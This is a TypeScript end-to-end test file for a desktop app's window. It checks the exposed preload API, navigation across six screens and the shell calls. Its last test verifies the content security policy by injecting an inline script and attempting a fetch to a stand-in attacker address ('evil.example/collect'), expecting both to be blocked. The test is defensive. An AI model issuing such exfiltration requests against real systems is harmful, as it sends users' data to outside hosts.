import { existsSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { build, TOP } from "#tests/package/packed.ts";
import { type DesktopWindow, openDesktopWindow } from "./desktop-window.ts";
import { demoWorkspace, removeFolder } from "./workspaces.ts";

const SCREENS = [
  ["/sources", "Sources"],
  ["/pipeline", "Pipeline"],
  ["/quality", "Quality"],
  ["/reports", "Reports"],
  ["/explore", "Explore"],
  ["/settings", "Settings"],
] as const;

let workspace = "";
let desktop: DesktopWindow;

beforeAll(async () => {
  const built = ["out/preload/index.cjs", "out/renderer/index.html"];
  if (!built.every((path) => existsSync(join(TOP, path)))) await build();
  workspace = await demoWorkspace();
  desktop = await openDesktopWindow(workspace);
});
afterAll(async () => {
  await desktop?.close();
  await removeFolder(workspace);
});

test("the window opens under the desktop's policy and is answered over its port", async () => {
  const { page, errors } = desktop;
  // Told by the workspace, not by the page.
  await page.getByText("Complete through").waitFor();
  await page.getByText("Version 1").first().waitFor();
  expect(await page.evaluate(() => Object.keys(window.medallion ?? {}))).toEqual([
    "connect",
    "pickFile",
    "openExternal",
    "pathOf",
  ]);
  expect(errors()).toEqual([]);
});

test("every screen of the menu is shown without loading the page again", async () => {
  const { page, show, errors } = desktop;
  await page.evaluate(() => Object.assign(window, { stillHere: true }));
  for (const [path, name] of SCREENS) {
    await show(path);
    await page.getByRole("heading", { level: 1, name }).waitFor();
  }
  expect(await page.evaluate(() => "stillHere" in window)).toBe(true);
  // No script, style, font or worker was refused by the policy, on any screen.
  expect(errors()).toEqual([]);
});

test("the shell's calls answer", async () => {
  const { page } = desktop;
  expect(
    await page.evaluate(async () => [
      await window.medallion?.pickFile({ endings: ["csv"] }),
      await window.medallion?.openExternal("https://docs.google.com/"),
      window.medallion?.pathOf(new File(["a"], "orders.csv")),
      window.medallion?.pathOf("no file"),
    ]),
  ).toEqual(["/chosen/orders.csv", true, "/dropped/orders.csv", ""]);
});

test("what the page may not do, it cannot: no script of its own, no address elsewhere", async () => {
  const { page } = desktop;
  const inline = await page.evaluate(async () => {
    const script = document.createElement("script");
    script.textContent = "window.ranInline = true";
    document.body.append(script);
    const fetched = await fetch("https://evil.example/collect").then(
      () => true,
      () => false,
    );
    return { ran: "ranInline" in window, fetched };
  });
  expect(inline).toEqual({ ran: false, fetched: false });
});
